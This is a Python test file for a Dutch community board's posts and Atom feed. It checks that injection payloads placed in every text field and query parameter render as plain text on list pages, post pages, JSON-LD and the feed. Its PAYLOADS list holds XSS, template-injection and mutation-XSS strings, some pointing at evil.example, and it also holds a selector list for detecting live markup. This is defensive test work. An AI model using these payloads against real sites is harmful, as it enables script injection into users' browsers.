"""Text of people stays text: on the list, the page, the feed and in structured data."""

import json
from dataclasses import replace
from typing import Any

import atoma
import feedparser
import pytest
from selectolax.lexbor import LexborHTMLParser

from portal.accounts.models import User
from portal.board.models import Kind, Post
from portal.board.services import fulfil_post
from portal.community.models import Organisation
from portal.core.storage.database import transaction
from tests.board.conftest import BOARD, DRAFT, START, Place, publish
from tests.fixtures import InspectedResponse, InspectingClient

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>",
    "[klik](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><input name=q id=results>",
    "<div data-hx-get='//evil.example' data-hx-trigger=load>",
    "{{ 7 * 7 }}{% raw %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "]]><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\u202egnp.exe\u200b",
)
HARMFUL = (
    "main script, main iframe, main style, main math, main img, main form:not(.filter-form), main input[id=results], "
    "[onerror], [onload], [ontoggle], [srcdoc], [data-hx-trigger=load]"
)


@pytest.fixture
def poisoned(network: dict[str, Any]) -> list[Post]:
    """Place an open and a closed post per payload, with it in every text field."""
    posts = []
    for number, payload in enumerate(PAYLOADS):
        with transaction() as session:
            author = User(name=payload, email=f"{number}@example.org")
            organisation = Organisation(slug=f"x{number}", name=payload, kind="vo", website=payload)
            session.add_all([author, organisation])
        draft = replace(DRAFT, title=payload, body=payload, period=payload, requirements=payload, kind=Kind.REQUEST)
        closed = publish(draft, author, organisation, START)
        fulfil_post(closed, author, payload)
        posts += [publish(draft, author, organisation, START), closed]
    return posts


def assert_harmless(page: InspectedResponse) -> None:
    """Fail when markup of a payload came alive."""
    alive = page.tree.css(HARMFUL)
    assert [node.html for node in alive] == []
    for name in ("href", "action", "data-hx-get"):
        for address in page.attributes(f"main [{name}], section#results [{name}]", name):
            assert not address.strip().lower().startswith(("javascript:", "data:")), address
    assert not page.tree.css("head img, head svg, title *")


@pytest.mark.parametrize("address", [BOARD, f"{BOARD}?status=alle", f"{BOARD}?status=gesloten", f"/en{BOARD}"])
def test_nothing_comes_alive_on_the_list(client: InspectingClient, poisoned: list[Post], address: str) -> None:
    plain: dict[str, str] = {}
    for headers in (plain, {"HX-Request": "true"}):
        page = client.get(address, headers=headers)
        assert page.status_code == 200
        assert len(page.texts(".post-card")) >= len(PAYLOADS)
        assert_harmless(page)


def test_nothing_comes_alive_on_the_page_of_a_post(client: InspectingClient, poisoned: list[Post]) -> None:
    for post in poisoned:
        page = client.get(post.path)
        assert page.only("h1") == " ".join(post.title.split())
        assert_harmless(page)


def test_structured_data_cannot_be_broken_out_of(client: InspectingClient, poisoned: list[Post]) -> None:
    opening = '<script type="application/ld+json">'
    for post in poisoned:
        source = client.get(post.path).get_data(as_text=True)
        start = source.index(opening) + len(opening)
        block = source[start : source.index("</script>", start)]
        assert "<" not in block
        assert json.loads(block)["name"] == post.title


def test_the_feed_carries_it_as_text(client: InspectingClient, poisoned: list[Post]) -> None:
    feed = feedparser.parse(client.get(f"{BOARD}feed.atom?status=alle").get_data(), sanitize_html=False)
    assert not feed.bozo
    assert len(feed.entries) == len(poisoned)
    for entry in feed.entries:
        html = LexborHTMLParser(f"<main>{entry.content[0].value}</main>")
        assert not html.css(f"{HARMFUL}, main form, [data-hx-get]")


@pytest.mark.parametrize("name", ["q", "soort", "na", "rubriek", "organisatie", "sorteer"])
def test_what_the_address_says_comes_back_as_text(client: InspectingClient, place: Place, name: str) -> None:
    place()
    for payload in PAYLOADS:
        page = client.get(BOARD, query_string={name: payload})
        assert page.status_code == 200
        assert_harmless(page)


@pytest.mark.parametrize(
    "path", [f"{BOARD}?q=%00", f"{BOARD}?q=%ff", f"{BOARD}%00", f"{BOARD}?%zz", f"{BOARD}1-%0d%0aX:1"]
)
def test_damaged_addresses_get_a_page(client: InspectingClient, place: Place, path: str) -> None:
    place()
    assert client.get(path).status_code in {200, 301, 303, 400, 404}


class TestFeed:
    def test_it_holds_exactly_what_the_filter_finds(self, client: InspectingClient, place: Place) -> None:
        for number in range(4):
            place("school", title=f"Post {number}", kind=Kind.REQUEST if number % 2 else Kind.OFFER)
        query = "?soort=vraag&organisatie=school"
        answer = client.get(f"{BOARD}feed.atom{query}")
        assert answer.mimetype == "application/atom+xml"
        feed = atoma.parse_atom_bytes(answer.get_data())
        assert [entry.title.value for entry in feed.entries] == ["Vraag: Post 3", "Vraag: Post 1"]
        assert feed.title.value == "Vraag & Aanbod: Vraag, School aan de Vliet"
        assert len({entry.id_ for entry in feed.entries}) == 2
        assert any(link.rel == "self" and link.href.endswith(f"feed.atom{query}") for link in feed.links)

    def test_the_list_names_it(self, client: InspectingClient, place: Place) -> None:
        place()
        page = client.get(f"{BOARD}?soort=aanbod")
        follow, feed = page.attributes(".feed-links a", "href")
        assert (follow, feed) == ("/volgen/vraag-en-aanbod?soort=aanbod", f"{BOARD}feed.atom?soort=aanbod")
        assert page.attributes('link[type="application/atom+xml"]', "href") == [f"{BOARD}feed.atom?soort=aanbod"]

    def test_an_empty_feed_is_valid(self, client: InspectingClient, place: Place) -> None:
        place()
        assert atoma.parse_atom_bytes(client.get(f"{BOARD}feed.atom?soort=vraag").get_data()).entries == []
